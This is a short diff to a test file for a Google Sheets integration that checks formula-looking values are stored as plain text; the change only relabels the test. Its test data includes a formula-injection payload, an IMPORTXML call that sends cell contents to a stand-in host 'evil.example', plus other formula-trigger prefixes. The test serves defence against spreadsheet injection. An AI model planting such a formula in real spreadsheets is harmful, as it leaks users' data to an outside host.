@@ -55,7 +55,7 @@ describe('Google Sheets', () => {
     expect(quoteSheet("Ana's")).toBe("'Ana''s'");
   });
 
-  test.each(['RAW', 'USER_ENTERED'])('with %s, what looks like a formula is stored as text', async (option) => {
+  test.each(['RAW', 'USER_ENTERED'])('D55: with %s, what looks like a formula is stored as text', async (option) => {
     const { call } = await open(serveGoogleSheets());
     const values = [['=IMPORTXML("http://evil.example/"&A1)', '+1+A1', '@SUM(A1)', '-A1', 'fine', true, null]];
     await bind('update_cells', { ...book, range: 'Sheet1!A5', values, value_input_option: option }).run(call);
